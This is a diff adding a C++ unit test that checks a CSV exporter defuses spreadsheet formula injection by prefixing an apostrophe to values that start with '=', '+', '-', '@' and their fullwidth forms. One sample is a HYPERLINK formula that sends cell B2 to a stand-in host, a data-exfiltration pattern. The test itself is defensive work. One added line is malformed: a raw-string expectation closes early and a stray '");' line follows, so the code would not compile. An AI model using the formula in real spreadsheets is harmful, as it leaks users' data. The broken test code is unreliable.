@@ -43,6 +43,20 @@ TEST(Csv, quotes_only_what_needs_it) {
     EXPECT_EQ(csv(FieldValue(std::span<const std::string_view>(flags))), "scam_wick|liquidity_wall");
 }
 
+TEST(Csv, gives_a_spreadsheet_nothing_to_compute) {
+    for (const std::string start : {"=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"}) {
+        EXPECT_EQ(csv(std::string_view(start + "1")), "'" + start + "1");
+    }
+    EXPECT_EQ(csv(std::string_view("=HYPERLINK(\"http://x/?\"&B2,\"ok\")")), R"("'=HYPERLINK(""http://x/?""&B2,""ok"")")
+    ");
+        EXPECT_EQ(csv(std::string_view("\t=1")), "\"'\t=1\"");
+    EXPECT_EQ(csv(std::string_view("\r=1")), "\"'\r=1\"");
+    EXPECT_EQ(csv(std::string_view("a=1-1")), "a=1-1");
+    const std::array<std::string_view, 2> texts{"=1", "x"};
+    EXPECT_EQ(csv(FieldValue(std::span<const std::string_view>(texts))), "'=1|x");
+    EXPECT_EQ(csv(FieldValue(-1.5)), "-1.5") << "numbers stay numbers";
+}
+
 TEST(ItemFields, are_found_by_their_exact_name) {
     for (const ItemField& field : item_fields()) EXPECT_EQ(find_item_field(field.name), &field);
     EXPECT_EQ(find_item_field("Score"), nullptr);
